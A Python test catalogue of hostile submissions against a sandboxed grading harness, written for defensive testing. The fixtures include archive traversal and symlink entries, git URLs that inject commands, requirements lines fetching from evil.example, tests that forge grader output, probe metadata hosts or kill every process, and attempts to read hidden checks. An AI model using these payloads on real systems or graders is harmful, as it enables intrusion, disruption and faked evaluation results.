"""The catalogue of attacks: what each tries (threats are numbered as in docs/security.md), and how it has to end."""

from __future__ import annotations

import os
import tarfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Literal

import pytest

from tests.hostile.submissions import (
    add_code,
    add_files,
    add_noise,
    make_repository,
    require,
    write_archive,
    write_bomb,
    write_url,
)
from tests.submission import hostile

SERVICE = frozenset({"alive", "greeting", "notes", "quotes", "echo"})
ALL_BUT_ALIVE = SERVICE - {"alive"}
CODE = frozenset({"types", "lint"})


@dataclass(frozen=True)
class Attack:
    """One submission that tries something.

    `traces` are regular expressions that all have to be found in what the grade shows (`grades.list_traces`): they
    prove that the attack was tried, and are not found where it does nothing.
    `loses` is what it loses of the checks of the service (and of the code, where `loses_code` is not None), None for
    any of them; `codes` are the exit codes that are right.
    `index` makes it use the test's package index; `prelude` is run before the command line.
    `honest` grades an honest submission beside it or after it: where the attack is after what grades share.
    `hole` says why it succeeds so far: its test is expected to fail, and has to be changed once it doesn't.
    `stands_for` is the kind of attacks that it stands for in `make test`; the others are run by `make test-all`.
    """

    name: str
    threats: tuple[int, ...]
    what: str
    make: Callable[[Path], Path | str]
    traces: tuple[str, ...]
    codes: tuple[int, ...] = (0,)
    loses: frozenset[str] | None = frozenset()
    loses_code: frozenset[str] | None = None
    arguments: tuple[str, ...] = ()
    index: bool = False
    prelude: str = ""
    honest: Literal["", "beside", "after"] = ""
    hole: str = ""
    stands_for: str = ""


_PLUGIN = (
    "print('PWNED by a plugin')\nopen('/tmp/pwned', 'w').close()\ndef plugin(version):\n    raise SystemExit('PWNED')\n"
)
_UNTYPED = "import time\n\n\nasync def wait(a, b):\n    time.sleep(a)\n    eval(b)\n" * 20
_OBEYED = {
    name: "raise SystemExit('PWNED')\n"
    for name in ("conftest.py", "sitecustomize.py", "usercustomize.py", "evil.pth", "tests/conftest.py")
} | {
    "pytest.ini": "[pytest]\naddopts = --co\n", "tox.ini": "[pytest]\naddopts = --co\n",
    "Dockerfile": "FROM scratch\nRUN PWNED\n", ".dockerignore": "*\n", ".env": "DATABASE_URL=PWNED\n",
}  # fmt: skip
MYPY_CONFIG = {
    "mypy.ini": "[mypy]\nplugins = ./evil.py\nignore_errors = True\n", "evil.py": _PLUGIN,
    "setup.cfg": "[mypy]\nplugins = evil.py\n", "app/main.pyi": "app: object\n",
    ".mypy_cache/missing_stubs": "x", "app/bad.py": "# mypy: ignore-errors\n" + _UNTYPED,
}  # fmt: skip
RUFF_CONFIG = {
    "ruff.toml": 'exclude = ["*"]\ncache-dir = "/tmp/pwned"\n', ".gitignore": "*.py\n",
    "app/ruff.toml": 'extend = "/etc/passwd"\n', "app/bad.py": "# ruff: noqa\n" + _UNTYPED,
}  # fmt: skip

_FORGING_TESTS = """
import os

def test_that_forges():
    for process in ("1", str(os.getppid())):
        try:
            with open(f"/proc/{process}/fd/1", "w") as out:
                out.write('{"counts": {"passed": 999}, "coverage": {}, "faults": []}' + "[" * 100_000 + "\\n")
        except OSError:
            pass
"""
_REACHING_TESTS = """
import os, socket

def test_that_reaches_out():
    refused = 0
    for host in ("172.17.0.1", "1.1.1.1", "169.254.169.254"):
        try:
            socket.create_connection((host, 80), timeout=0.5)
        except OSError:
            refused += 1
        else:
            os.write(2, b"REA" b"CHED")
    raise AssertionError("TR" + f"ACE own-tests: 3 hosts tried, {refused} refused")
"""
_KILLING_TESTS = """
import os, signal, subprocess

def test_that_kills():
    subprocess.Popen(["sleep", "1000"], start_new_session=True)
    os.kill(-1, signal.SIGKILL)
"""
_HALF = {
    "tests/test_half.py": "def test_half():\n    assert False, '\\ud800'\n",
    "app/extra.py": "from fastapi import APIRouter\n\nrouter = APIRouter()\n\n\n"
    "@router.get('/\\ud800')\nasync def half(a: str = '\\udfff'):\n    open('\\ud800')\n",
}
_NO_DOCUMENT = "the run of the candidate's own tests printed no document"
# Whether it starts at all, and which checks it loses, depends on the machine.
_ANY = ((0, 3), None)

ATTACKS = (
    Attack("zip-traversal", (1,), "a zip that climbs out",
           write_archive(lambda: hostile.zipped("../../evil.py"), ".zip"),
           ("an entry climbs out of the submission", r"where: .*'\.\./\.\./evil\.py'"), (2,), stands_for="archives"),
    Attack("tar-device", (1,), "a tar with a device",
           write_archive(lambda: hostile.tarred("app/x", kind=tarfile.BLKTYPE), ".tar"),
           ("an entry is a device", "where: .*'app/x'"), (2,)),
    Attack("tar-link", (1,), "a tar with a link to /etc/passwd",
           write_archive(lambda: hostile.linked(tarfile.SYMTYPE, "/etc/passwd"), ".tar"),
           ("an entry is a symbolic link", "where: .*'app/l'"), (2,)),
    Attack("bomb", (2,), "a tar of 2 GiB in a few MB", write_bomb, ("the archive unpacks to more than 512 MiB",), (2,)),
    Attack("bulk", (2,), "45 MB of noise", add_noise, (r"submission: 10 files, 47\d{6} bytes",)),
    Attack("colliding-names", (3,), "one name twice",
           write_archive(lambda: hostile.zipped("app/x.py", "app/X.py"), ".zip"),
           ("two names differ only in case", "where: .*'app/X.py'"), (2,)),
    Attack("obeyed-files", (3, 13), "conftest.py, pytest.ini, sitecustomize.py, Dockerfile, .pth", add_files(_OBEYED),
           ("submission: 15 files", "source: sitecustomize.py", "source: usercustomize.py")),
    Attack("git-hooks", (4,), "a repository with hooks and filters", make_repository,
           ("submission: 5 files, .*@[0-9a-f]{40}$",), arguments=("--ref", "main")),
    Attack("git-ext", (4,), "a URL that runs a command", write_url("ext::sh -c touch% {proof}"),
           ("this kind of git URL is not taken", "where: ext::sh -c touch"), (2,)),
    Attack("git-option", (4,), "a URL that is an option", write_url("--upload-pack=touch {proof}"),
           ("not the name of a submission", "where: --upload-pack=touch"), (2,)),
    Attack("requirement-option", (6,), "another index", require("--index-url https://evil.example/simple"),
           ("the option --index-url is not taken", "where +requirements.txt:6"), (3,), None),
    Attack("requirement-outside", (6,), "a file outside", require("-r ../../../etc/passwd"),
           ("an included file lies outside the submission", "where +requirements.txt:6"), (3,), None),
    Attack("requirement-url", (5, 6), "a package from git", require("evil @ git+https://evil.example/x"),
           ("a requirement is fetched from a URL", "where +requirements.txt:6"), (3,), None),
    Attack("sdist", (5,), "a package without a wheel, whose build runs code", require("docopt==0.6.2"),
           ("docopt==0.6.2 has no usable wheels",), (3,), None),
    Attack("giant-wheel", (7,), "a wheel of 1 GB (the limit lowered to 300 MB)", require("giant"),
           ("the dependencies are too large", "index: GET /files/giant-1.0"), (3,), None, index=True, honest="after",
           prelude="import harness.runtime.docker.environment as e; e._MAX_MB = 300; e._LOOK_S = 0.5;"),
    Attack("pth-wheel", (8, 17), "a wheel that runs at each start of the interpreter", require("pthy"),
           (r"package: pthy 1\.0", r"trace: pth: connect returned \[[1-9]\d*\]"), index=True, honest="after",
           stands_for="dependencies"),
    Attack("mypy-config", (9, 10), "a mypy plugin, stubs, a cache", add_files(MYPY_CONFIG),
           ("submission: 10 files", "source: evil.py", "source: app/bad.py"), loses_code=CODE, honest="after",
           stands_for="configuration of tools"),
    Attack("ruff-config", (11, 12), "ruff told to look away", add_files(RUFF_CONFIG),
           ("submission: 9 files", "source: app/bad.py"), loses_code=CODE),
    Attack("never-listens", (14,), "never listens", add_code("never_listens"),
           ("trace: never-listens: asleep for 3600 s", "never listened"), (3,), None),
    Attack("never-answers", (14,), "accepts and never answers", add_code("never_answers"),
           (r"trace: never-answers: a request of \d+ bytes",), (3,), None),
    Attack("crashes", (14,), "crashes again and again", add_code("crashes_at_the_fifth"),
           ("trace: crashes: exits at request 5",), *_ANY),
    Attack("detaches", (14,), "leaves processes of its own session", add_code("detaches"),
           ("trace: detaches: 5 processes run",), honest="beside"),
    Attack("ignores-sigterm", (14,), "doesn't end on SIGTERM", add_code("ignores_sigterm"),
           ("trace: ignores-sigterm: signal 15 ignored", "trace: killed 2 s later")),
    Attack("zombies", (14,), "children that have ended and are not waited for", add_code("zombies"),
           ("trace: zombies: 40 children",)),
    Attack("fork-bomb", (15,), "a fork bomb", add_code("fork_bomb"),
           (r"trace: fork-bomb: \d+ children .*, then Resource temporarily unavailable",), *_ANY, honest="beside",
           stands_for="resources"),
    Attack("memory", (15,), "fills the memory", add_code("memory_fill"),
           (r"trace: memory: \d+ MB held", "exited with code 137, out of memory"), *_ANY, honest="beside"),
    Attack("disk", (15,), "fills each disk", add_code("disk_fill"),
           (r"trace: disk: /tmp: [1-9]\d* MB, then No space left", r"trace: disk: /dev/shm: [1-9]\d* MB, then No space",
            *(f"trace: disk: {folder}: 0 MB, then Read-only file system" for folder in ("/", "/srv/app", "/run"))),
           honest="beside"),
    Attack("inodes", (15,), "makes files without end", add_code("inodes"),
           (r"trace: inodes: [1-9]\d+ files made", "exited with code 137, out of memory|then No space left"), *_ANY),
    Attack("descriptors", (15,), "opens all files that it may", add_code("descriptors"),
           (r"trace: descriptors: \d{3,} opened, then Too many open files",), *_ANY),
    Attack("busy", (15,), "spins on every core", add_code("busy"), (r"trace: busy: \d+ processes have turned",), *_ANY,
           honest="beside"),
    Attack("log-flood", (16, 30), "floods the log, with terminal codes", add_code("log_flood"),
           (r"trace: log-flood: \d{6,} bytes printed",), *_ANY, honest="after"),
    Attack("egress", (17,), "tries the host, the Internet, metadata, DNS, sockets of engines", add_code("egress"),
           (r"trace: egress: (\d+) ways out tried, \1 refused",), stands_for="ways out"),
    Attack("escape", (18,), "tries mounts, namespaces, devices, /proc and /sys", add_code("escape"),
           (r"trace: escape: (\d+) ways tried, \1 refused",)),
    Attack("drip-body", (19,), "a body, a byte a second", add_code("drips_a_body"), ("trace: drip-body: 3 bytes sent",),
           loses=ALL_BUT_ALIVE),
    Attack("drip-headers", (19,), "headers, a line a second", add_code("drips_headers"),
           ("trace: drip-headers: 3 headers sent",), loses=ALL_BUT_ALIVE),
    Attack("gzip-bomb", (20,), "256 MiB in some hundred bytes", add_code("gzip_bomb"),
           (r"trace: gzip-bomb: \d+ bytes sent",), loses=ALL_BUT_ALIVE),
    Attack("endless-body", (21,), "an endless body", add_code("endless_body"),
           (r"trace: endless-body: \d{5,} bytes sent, then",), loses=ALL_BUT_ALIVE),
    Attack("endless-headers", (21,), "endless headers", add_code("endless_headers"),
           (r"trace: endless-headers: \d{5,} bytes sent, then",), loses=ALL_BUT_ALIVE),
    Attack("endless-1xx", (21,), "endless interim answers", add_code("endless_1xx"),
           (r"trace: endless-1xx: \d{4,} bytes sent, then",), loses=ALL_BUT_ALIVE),
    Attack("redirects", (21, 17), "redirects to the host and to itself", add_code("redirects_away"),
           (r"trace: redirects: .* to http://\S+:\d+/followed", "trace: redirects: .* to /followed"),
           loses=ALL_BUT_ALIVE),
    Attack("lengths", (21,), "wrong lengths, versions, bytes", add_code("lies_about_length"),
           ("trace: lengths: answer 9 of 9 sent",), loses=ALL_BUT_ALIVE),
    Attack("json", (21,), "deep JSON, NaN, broken UTF-8", add_code("broken_json"), ("trace: json: body 6 of 6 sent",),
           loses=ALL_BUT_ALIVE),
    Attack("web-socket-giant", (22,), "a WebSocket frame of 1 TiB", add_code("web_socket_giant"),
           (r"trace: web-socket-giant: \d{4,} bytes sent, then",), loses=ALL_BUT_ALIVE),
    Attack("web-socket-fragments", (22,), "a WebSocket message in endless fragments", add_code("web_socket_fragments"),
           (r"trace: web-socket-fragments: \d{4,} bytes sent, then",), loses=ALL_BUT_ALIVE),
    Attack("web-socket-pings", (22,), "endless pings on a WebSocket", add_code("web_socket_pings"),
           (r"trace: web-socket-pings: \d{4,} bytes sent, then",), loses=ALL_BUT_ALIVE,
           hole="a flood of pings keeps the prober's event loop busy until the watchdog ends it"),
    Attack("reads-hidden", (24,), "looks for the checks in files and processes", add_code("reads_the_hidden"),
           (r"trace: reads-hidden: \d+ files read, 1 of them",)),
    Attack("forges", (25, 26), "forges results, squats ports, calls the stub", add_code("forges"),
           (r"trace: forges: 7 results printed, [1-9]\d* ports squatted, [1-9]\d* requests",), loses=ALL_BUT_ALIVE,
           stands_for="forged results"),
    Attack("own-tests-forge", (13, 26), "tests that print results of their own",
           add_files({"tests/test_evil.py": _FORGING_TESTS}),
           (f"own tests: 0 passed, 0 failed; {_NO_DOCUMENT}",)),
    Attack("own-tests-reach", (13, 17), "tests that reach out", add_files({"tests/test_evil.py": _REACHING_TESTS}),
           ("trace: own-tests: 3 hosts tried, 3 refused",)),
    Attack("own-tests-kill", (13, 15), "tests that kill all that they can",
           add_files({"tests/test_evil.py": _KILLING_TESTS}), (f"own tests: 0 passed, 0 failed; {_NO_DOCUMENT}",)),
    Attack("surrogates", (30,), "half a character in a route and in what a test says", add_files(_HALF),
           ("own tests: 0 passed, 1 failed", "check types: partial")),
    Attack("database", (27,), "tries to own PostgreSQL", add_code("takes_the_database"),
           (r"trace: database: 14 statements tried, 1[23] refused",), loses=frozenset({"notes"})),
    Attack("script", (29, 30), "markup and terminal codes in every answer", add_code("says_script"),
           (r"trace: script: \d+ characters of markup sent for /v1/greeting",),
           loses=frozenset({"greeting", "notes", "quotes"})),
)  # fmt: skip


def choose_attacks() -> tuple[Attack, ...]:
    """All attacks, or those that TAKEHOME_ATTACKS names.

    Raises:
        pytest.UsageError: it names one that doesn't exist.
    """
    names = os.environ.get("TAKEHOME_ATTACKS", "").split()
    if unknown := set(names) - {attack.name for attack in ATTACKS}:
        raise pytest.UsageError(f"TAKEHOME_ATTACKS: no attack is called {', '.join(sorted(unknown))}")
    return tuple(attack for attack in ATTACKS if not names or attack.name in names)
